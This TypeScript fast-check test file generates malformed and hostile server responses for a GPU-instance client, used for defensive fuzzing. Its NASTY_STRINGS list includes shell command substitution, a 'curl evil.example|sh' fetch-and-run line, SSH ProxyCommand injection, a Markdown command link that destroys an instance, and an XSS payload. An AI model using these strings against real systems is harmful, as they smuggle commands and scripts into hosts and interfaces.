import fc from 'fast-check';

/**
 * What a broken or hostile server might send, for the property tests: the right shape often, the
 * wrong type often, and the known-nasty strings (shell, Markdown, URL tricks) now and then.
 */
export const NASTY_STRINGS = [
  '$(id>/tmp/x)',
  '1.2.3.4;curl evil.example|sh',
  'evil.example/#',
  '`id`',
  '-oProxyCommand=sh',
  'host\nProxyCommand sh',
  '%h',
  '[x](command:vastai.destroyInstance)',
  '<img src=x onerror=alert(1)>',
  'a|b\n| c | d |',
  '',
  ' ',
  '\u0000',
  '99999999999999',
];

export const json = fc.jsonValue({ maxDepth: 3 });
const text = fc.oneof(fc.string({ maxLength: 40 }), fc.constantFrom(...NASTY_STRINGS));
/** A valid-looking value of a field, or anything else. */
const either = <T>(valid: fc.Arbitrary<T>) => fc.oneof({ weight: 3, arbitrary: valid }, { weight: 1, arbitrary: json }, { weight: 1, arbitrary: text }, { weight: 1, arbitrary: fc.constant(null) });

const host = fc.oneof(fc.ipV4(), fc.ipV6(), fc.domain(), text);
const portNumber = fc.oneof(fc.integer({ min: 1, max: 65535 }), fc.integer({ min: -5, max: 70000 }), fc.double());
const ports = fc.dictionary(
  fc.oneof(fc.constantFrom('22/tcp', '8080/tcp', '1111/udp'), fc.string({ maxLength: 8 })),
  fc.oneof(fc.array(fc.record({ HostIp: either(fc.ipV4()), HostPort: either(portNumber.map(String)) }, { requiredKeys: [] }), { maxLength: 3 }), json),
  { maxKeys: 3 },
);
const status = fc.constantFrom('created', 'loading', 'running', 'stopped', 'frozen', 'exited', 'rebooting', 'unknown', 'offline');

export const hostileInstance = fc.record(
  {
    id: either(fc.integer({ min: 1, max: 2_000_000_000 })),
    actual_status: either(status),
    intended_status: either(fc.constantFrom('running', 'stopped', 'frozen')),
    label: either(fc.string({ maxLength: 20 })),
    status_msg: either(fc.string({ maxLength: 30 })),
    gpu_name: either(fc.constantFrom('RTX 4090', 'H100 SXM')),
    num_gpus: either(fc.integer({ min: 0, max: 8 })),
    gpu_ram: either(fc.double({ noNaN: true })),
    cpu_ram: either(fc.double({ noNaN: true })),
    cpu_cores_effective: either(fc.double({ noNaN: true })),
    dph_total: either(fc.double({ min: 0, max: 50, noNaN: true })),
    public_ipaddr: either(host),
    ssh_host: either(host),
    ssh_port: either(portNumber),
    ports: either(ports),
    image_uuid: either(fc.string({ maxLength: 30 })),
    image_runtype: either(fc.constantFrom('ssh_direc ssh_proxy', 'jupyter_direc ssh_direc ssh_proxy', 'jupyter_proxy ssh_proxy')),
    jupyter_token: either(fc.string({ maxLength: 12 })),
    start_date: either(fc.oneof(fc.double(), fc.integer({ min: 1_600_000_000, max: 1_900_000_000 }))),
    geolocation: either(fc.string({ maxLength: 20 })),
    reliability2: either(fc.double()),
  },
  { requiredKeys: [] },
);

export const hostileInstanceList = fc.array(fc.oneof({ weight: 5, arbitrary: hostileInstance }, { weight: 1, arbitrary: json }), { maxLength: 6 });

export const hostileOffer = fc.record(
  {
    id: either(fc.integer({ min: 1, max: 2_000_000_000 })),
    gpu_name: either(fc.constantFrom('RTX 4090', 'A100')),
    num_gpus: either(fc.integer({ min: 1, max: 8 })),
    dph_total: either(fc.double({ min: 0, max: 50, noNaN: true })),
    cpu_cores_effective: either(fc.double({ noNaN: true })),
    cpu_ram: either(fc.double({ noNaN: true })),
    gpu_ram: either(fc.double({ noNaN: true })),
    reliability: either(fc.double()),
    inet_down: either(fc.double()),
    cuda_max_good: either(fc.double()),
    geolocation: either(fc.string({ maxLength: 20 })),
    verification: either(fc.constantFrom('verified', 'unverified')),
    storage_cost: either(fc.double()),
    disk_space: either(fc.double()),
    public_ipaddr: either(host),
  },
  { requiredKeys: [] },
);

/** Retry-After values: seconds, dates, garbage, absurd numbers. */
export const retryAfter = fc.oneof(
  fc.nat().map(String),
  fc.constantFrom('99999999999999', '1e400', '-5', '0', '1.5', 'Fri, 31 Dec 9999 23:59:59 GMT', 'Sat, 99 Nov 2026 12:00:30 GMT', 'soon', ''),
  fc.date({ min: new Date(-8.64e15), max: new Date(8.64e15), noInvalidDate: true }).map((d) => d.toUTCString()),
  fc.string({ maxLength: 30 }).filter((s) => !/[\r\n\0]/.test(s) && /^[\x20-\x7e]*$/.test(s)),
);
